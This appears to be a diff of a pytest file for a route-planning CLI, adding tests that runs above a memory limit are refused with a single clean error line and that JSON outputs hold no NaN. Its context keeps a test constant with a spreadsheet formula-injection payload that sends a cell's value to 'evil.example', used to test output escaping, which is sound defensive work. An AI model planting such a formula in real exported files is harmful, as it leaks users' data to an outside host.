@@ -9,8 +9,10 @@ codes from what it echoes to anything else, which would hide a raw escape from t
 from __future__ import annotations
 
 import csv
+import json
 import logging
 
+import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
@@ -18,7 +20,10 @@ from click.testing import CliRunner
 
 from planner import pipeline
 from planner.cli import handle_errors, main, setup
+from planner.core import memory
 from planner.core.errors import InputError
+from planner.inputs import demand
+from planner.inputs import network as network_mod
 from planner.outputs.safe_text import FORMULA_START
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -182,3 +187,136 @@ def test_every_log_record_is_one_escaped_line(capsys):
     finally:
         root.handlers[:], root.level = handlers, level
     assert err == f"WARNING planner.test: id {ANSI_SHOWN}\\nforged: INFO all fine\n"
+
+
+# --------------------------------------------------------------------------- memory
+
+
+def _refused(res, out) -> str:
+    """The one error line of a run refused before any work (nothing written to ``out``)."""
+    assert res.exit_code == 2, res.output
+    lines = res.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
+    assert "Traceback" not in res.output and not out.exists()
+    return lines[0]
+
+
+def _no_network(monkeypatch):
+    """A run refused before its network is read: reading it fails the test."""
+
+    def load(*_a, **_k):
+        raise AssertionError("the network was read")
+
+    monkeypatch.setattr(network_mod, "load", load)
+
+
+def test_six_million_hotspots_are_refused_at_once(tmp_path, hostile_files, helsinki_pbf,
+                                                  monkeypatch):  # fmt: skip
+    """6.6 million rows (written cheaply: one row repeated) with the default limit: one
+    error line saying how many hotspots, the limit and the fixes, before the file is
+    parsed or the network read; never numpy's MemoryError."""
+    monkeypatch.delenv(memory.ENV_VAR, raising=False)
+    _no_network(monkeypatch)
+    monkeypatch.setattr(demand, "read_hotspots", lambda *a, **k: pytest.fail("file parsed"))
+    big = tmp_path / "pings_as_hotspots.csv"
+    big.write_bytes(b"lon,lat,weight\n" + b"24.94,60.17,1\n" * 6_600_000)
+    out = tmp_path / "out"
+    res = CliRunner().invoke(main, ["plan", "--quiet", "--network", helsinki_pbf,
+                                    "--hotspots", str(big), "--stations", "none",
+                                    "--candidates", str(hostile_files / "candidates.csv"),
+                                    "--out", str(out)])  # fmt: skip
+    line = _refused(res, out)
+    assert line.startswith(f"error: hotspots file {str(big)!r}: 6,600,000 hotspots need about ")
+    assert f"above the limit of {memory.DEFAULT_GIB:g} GiB" in line
+    assert "planner hotspots" in line and "in parts" in line
+    assert f"--memory-gib (or the environment variable {memory.ENV_VAR})" in line
+
+
+@pytest.mark.parametrize("how", ["flag", "env"])
+def test_a_run_above_a_lowered_limit_is_refused(tmp_path, hostile_files, helsinki_pbf,
+                                                monkeypatch, how):  # fmt: skip
+    """2,000 hotspots against a limit that leaves room for 1,000: refused, by the flag or
+    by the environment variable."""
+    limit = (memory.BASE_BYTES + 1_000 * memory.HOTSPOT_BYTES) / memory.GIB
+    _no_network(monkeypatch)
+    rows = pd.DataFrame({"lon": 24.94 + np.arange(2_000) * 1e-5, "lat": 60.17, "weight": 1})
+    rows.to_csv(tmp_path / "hs.csv", index=False)
+    args = ["plan", "--quiet", "--network", helsinki_pbf, "--hotspots", str(tmp_path / "hs.csv"),
+            "--stations", "none", "--candidates", str(hostile_files / "candidates.csv"),
+            "--out", str(tmp_path / "out")]  # fmt: skip
+    if how == "flag":
+        monkeypatch.delenv(memory.ENV_VAR, raising=False)
+        args += ["--memory-gib", f"{limit:.9f}"]
+    else:
+        monkeypatch.setenv(memory.ENV_VAR, f"{limit:.9f}")
+    line = _refused(CliRunner().invoke(main, args), tmp_path / "out")
+    assert ": 2,000 hotspots need about 0.4 GiB of memory, above the limit of " in line
+    assert "(at most about 1,000 hotspots fit)" in line
+
+
+def test_a_limit_that_is_not_a_number_is_one_error_line(tmp_path, hostile_files, helsinki_pbf,
+                                                        monkeypatch):  # fmt: skip
+    monkeypatch.setenv(memory.ENV_VAR, "lots")
+    res = _plan(hostile_files, helsinki_pbf, tmp_path / "out")
+    line = _refused(res, tmp_path / "out")
+    assert line == (
+        f"error: {memory.ENV_VAR}: 'lots' is not a positive number of GiB; give the memory "
+        "the run may use, such as 8"
+    )
+    monkeypatch.delenv(memory.ENV_VAR)
+    args = ["plan", "--network", helsinki_pbf, "--hotspots", "osm", "--stations", "none",
+            "--candidates", "osm", "--memory-gib", "-1", "--out", str(tmp_path / "o")]  # fmt: skip
+    res = CliRunner().invoke(main, args)
+    assert _refused(res, tmp_path / "o").startswith("error: --memory-gib: '-1' is not a ")
+
+
+def test_a_memory_error_is_one_clean_line(capsys):
+    """The machine running short beyond the estimate: numpy's message, on one line, with
+    the fixes, exit status 2, no traceback."""
+
+    @handle_errors
+    def fail() -> None:
+        raise MemoryError(
+            "Unable to allocate 4.00 GiB for an array with shape (6600000, 81) and data "
+            "type float64"
+        )
+
+    with pytest.raises(SystemExit) as exit_:
+        fail()
+    assert exit_.value.code == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and err.startswith(
+        "error: the machine ran out of memory (Unable to allocate 4.00 GiB for an array "
+        "with shape (6600000, 81) and data type float64); aggregate the points"
+    )
+    assert "--memory-gib" in err and "Traceback" not in err
+
+
+def test_a_bare_memory_error_is_named_too(capsys):
+    @handle_errors
+    def fail() -> None:
+        raise MemoryError
+
+    with pytest.raises(SystemExit):
+        fail()
+    assert capsys.readouterr().err.startswith(
+        "error: the machine ran out of memory (an allocation failed); "
+    )
+
+
+def test_every_json_file_of_the_set_is_strict(hostile_run):
+    """No NaN or Infinity in any JSON file of the set (summary, manifest, timings and every
+    GeoJSON): a hotspot beyond every circle has a null nearest time, not NaN."""
+    _, out = hostile_run
+
+    def refuse(constant: str) -> None:
+        raise AssertionError(f"not strict JSON: {constant}")
+
+    names = sorted(p.name for p in out.iterdir() if p.suffix in (".json", ".geojson"))
+    assert {"summary.json", "manifest.json", "timings.json", "blind_spots.geojson"} <= set(names)
+    for name in names:
+        json.loads((out / name).read_text(encoding="utf-8"), parse_constant=refuse)
+    blind = pd.read_csv(out / "blind_spots.csv", encoding="utf-8-sig")
+    features = json.loads((out / "blind_spots.geojson").read_text(encoding="utf-8"))["features"]
+    unreached = [f for f in features if f["properties"]["nearest_minutes"] is None]
+    assert len(unreached) == int(blind["nearest_minutes"].isna().sum())
